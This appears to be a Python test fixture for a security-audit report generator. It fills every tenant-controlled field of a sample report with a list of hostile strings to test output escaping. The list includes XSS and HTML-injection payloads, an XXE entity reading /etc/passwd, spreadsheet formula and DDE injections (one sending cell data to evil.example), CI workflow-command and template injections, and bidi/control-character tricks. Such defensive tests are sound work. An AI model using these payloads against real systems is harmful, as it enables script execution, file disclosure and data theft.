"""Reports in which every text that somebody in a tenant can choose attacks the reader of some format."""

from __future__ import annotations

from dataclasses import replace
from itertools import cycle

from auditor.model.finding import Evidence, Finding, Status
from auditor.model.report import Report
from auditor.model.waiver import AppliedWaiver, WaiverState
from tests.report.sample import sample_report

HOSTILE = (
    "<script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "]]><!-- --><![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "  '=1+1",
    "\uff1d1+1",
    "%0a|calc",
    "[click](javascript:window.pwned=1) ![x](https://evil.example/x.png)",
    "[a]: https://evil.example/ 'b'\n\n[a]",
    "# heading\n- list\n1. one\n> quote\n```\ncode\n---\n| a | b |\n|---|---|",
    "1. one",
    "- dash",
    "``` ` `` @org/team #1 https://evil.example/ www.evil.example mail@evil.example",
    "<https://evil.example/> <b>bold</b> &lt;&amp;&#64;",
    "$x^2$ **bold** __bold__ ~~gone~~ \\",
    "BEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM\nDTSTART:19700101T000000Z;x,y\\n",
    "::error file=a,line=1::owned %0A::set-output name=a::b",
    "\u202egpj.exe\u202c \u200b\u200d\ufeff \u2066x\u2069",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035bA",
    "\x00\x07\x1b[31mred\x1b[0m\x7f\x85\u2028",
    "\ud83d lone surrogate \udc00 \ufffe\uffff",
    "{{ 7*7 }}{% for x in y %}${7*7} {0} %s",
    "x" * 10_000,
    "",
)


def hostile_report() -> Report:
    """The sample with a hostile text wherever the tenant has a say."""
    texts = cycle(HOSTILE)
    sample = sample_report()
    names = {application.app_id: next(texts) for application in sample.applications}
    findings = [_hostile(finding, names, text) for text in HOSTILE for finding in _one_per_status(sample)]
    # Many findings would share a fingerprint now, as no two findings of a report do.
    findings = [replace(finding, fingerprint=f"{n:032x}") for n, finding in enumerate(findings)]
    tenant = sample.run.tenant
    return replace(
        sample,
        run=replace(sample.run, tenant=replace(tenant, display_name=next(texts), domain=next(texts))),
        coverage=replace(
            sample.coverage,
            gaps=tuple(
                replace(gap, detail=text, subject=text)
                for text in HOSTILE
                for gap in sample.coverage.gaps[:1]
            ),
        ),
        applications=tuple(
            replace(
                application,
                display_name=names[application.app_id],
                product=next(texts),
                rollover_sentence=next(texts),
                certificates=tuple(
                    replace(certificate, subject=next(texts)) for certificate in application.certificates
                ),
            )
            for application in sample.applications
        ),
        findings=tuple(findings),
    )


def _one_per_status(report: Report) -> list[Finding]:
    found = {finding.status: finding for finding in report.findings if finding.application}
    return [found[status] for status in Status]


def _hostile(finding: Finding, names: dict[str, str], text: str) -> Finding:
    assert finding.application is not None
    return replace(
        finding,
        application=replace(finding.application, display_name=names[finding.application.app_id]),
        subject=replace(finding.subject, id=text, name=text),
        message=text,
        expected=text,
        observed=[text, {text: text}],
        evidence=(Evidence(source=text, path=text, value=text, present=True, collected_at=None),),
        waiver=AppliedWaiver(
            id="0" * 32,
            state=WaiverState.ACTIVE if finding.status is Status.WAIVED else WaiverState.EXPIRED,
            reason=text,
            owner=text,
            ticket=text,
            expires="2027-01-01",
            days_left=39,
            message=text,
        ),
    )
